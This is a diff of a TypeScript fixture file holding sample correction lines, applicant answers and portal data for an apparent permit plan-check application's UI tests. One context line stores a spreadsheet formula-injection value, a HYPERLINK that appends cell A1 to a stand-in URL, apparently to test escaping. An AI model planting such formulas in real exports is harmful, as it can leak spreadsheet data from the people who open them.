@@ -11,7 +11,9 @@ import type { FormResult } from "~/platform/forms/form.server";
 import type { CorrectionLine } from "~/ui/corrections/correction-lines";
 import type { ReviewBadge } from "~/ui/corrections/review-decision";
 import type { PlanCheckCard } from "~/ui/permits/plan-check-card";
+import type { AnswerLinesData } from "../../permits/parts/load-permit-letters.server";
 import type { PlanCheckDetail } from "../../permits/parts/load-plan-check.server";
+import type { PortalPlanCheck } from "../../portal/parts/portal-plan-check";
 import type { CorrectionsCardData } from "../../review/parts/load-corrections-card.server";
 
 const correction: CorrectionLine = {
@@ -38,6 +40,9 @@ const line = (id: number, fields: Partial<CorrectionLine>): CorrectionLine => ({
 const notResolvedBefore: CorrectionLine["earlier"] = [
   { reviewCycle: "PC2", verdict: "not_resolved", remark: "The stair shaft is still not rated on A-501." },
 ];
+
+const answer =
+  "Applicant's answer, Nov 20, 2026: The boxes are shown at each exit, with their heights. (A6.1)";
 
 export const draft = line(1, { reviewCycle: "PC3", newReason: "revised_plans" });
 
@@ -90,10 +95,20 @@ export const lines: CorrectionLine[] = [
     remark: "🙈",
     verdict: "not_resolved",
   }),
+  line(18, { answer }),
+  line(19, {
+    earlier: notResolvedBefore,
+    answer,
+    verdict: "not_resolved",
+    remark: "A6.1 is not in the set.",
+  }),
+  line(23, {
+    answer: `Applicant's answer, Nov 20, 2026: ${"Unbroken".repeat(125)} (${"A6.1 ".repeat(10).trim()})`,
+  }),
   line(17, { text: '=HYPERLINK("https://example.test/?"&A1,"Open")' }),
 ];
 
-export const unchecked = line(20, {});
+export const unchecked = line(20, { answer });
 export const refused = line(21, { earlier: notResolvedBefore });
 export const checked = line(22, { verdict: "resolved", status: "resolved", remark: "See detail 4/A-501." });
 
@@ -133,6 +148,7 @@ const toBackCheck = [
   line(30, {}),
   line(31, {
     earlier: notResolvedBefore,
+    answer,
     verdict: "not_resolved",
     remark: "Detail 4/A-501 shows one hour; two hours are required.",
   }),
@@ -289,3 +305,81 @@ export const releasedPlanCheck: PlanCheckDetail = {
   released: "Nov 20, 2026",
   mayChange: false,
 };
+
+const withApplicant: PlanCheckDetail = {
+  ...releasedPlanCheck,
+  status: "resubmittal_required",
+  word: "with_applicant",
+  handedOver: "Nov 23, 2026",
+};
+
+const noAnswers = { answered: 0, total: 23, resubmitted: null, returnRemark: null, isOpen: true };
+const halfAnswered: AnswerLinesData = { answers: { ...noAnswers, answered: 11 }, failedEmail: null };
+const returned: AnswerLinesData = {
+  answers: {
+    ...noAnswers,
+    answered: 23,
+    returnRemark: `The answers refer to sheet A6.1, which is not among the files.\n${"Unbroken".repeat(38)}`,
+  },
+  failedEmail: null,
+};
+const resubmitted: AnswerLinesData = {
+  answers: {
+    ...noAnswers,
+    answered: 23,
+    resubmitted: "Nov 30, 2026 by Marisol Peña, Studio Poplar",
+    isOpen: false,
+  },
+  failedEmail: null,
+};
+
+/** What the applicant has done with the letter. */
+export const answeredPlanChecks: { planCheck: PlanCheckDetail; letters: AnswerLinesData }[] = [
+  {
+    planCheck: withApplicant,
+    letters: { answers: noAnswers, failedEmail: `${"a-long-name-".repeat(6)}@studio-poplar.example` },
+  },
+  { planCheck: withApplicant, letters: returned },
+  { planCheck: { ...withApplicant, word: "resubmitted" }, letters: resubmitted },
+];
+
+type PortalData = ComponentProps<typeof PortalPlanCheck>;
+
+const portal: PortalData = {
+  permitId: 1,
+  page: "#",
+  planChecks: {
+    current: { reviewCycle: "PC2", word: "With the applicant", received: "Nov 3, 2026" },
+    others: [{ reviewCycle: "PC1", word: "Closed", received: "Sep 8, 2026" }],
+  },
+  letters: {
+    ...halfAnswered,
+    list: [
+      {
+        id: 2,
+        number: "OAK-26-041-PC2",
+        issued: "Nov 20, 2026",
+        outcome: "Corrections required",
+      },
+    ],
+    isBeingCorrected: false,
+    handedOver: "Nov 23, 2026",
+    mayHandOver: true,
+    mayReopen: false,
+    mayReturn: false,
+  },
+};
+
+/** As the city sees them. */
+export const portalPlanChecks: PortalData[] = [
+  portal,
+  {
+    ...portal,
+    planChecks: {
+      ...portal.planChecks,
+      current: { ...portal.planChecks.current, word: "Resubmitted" },
+      others: [],
+    },
+    letters: portal.letters && { ...portal.letters, ...resubmitted, list: [], mayHandOver: false },
+  },
+];
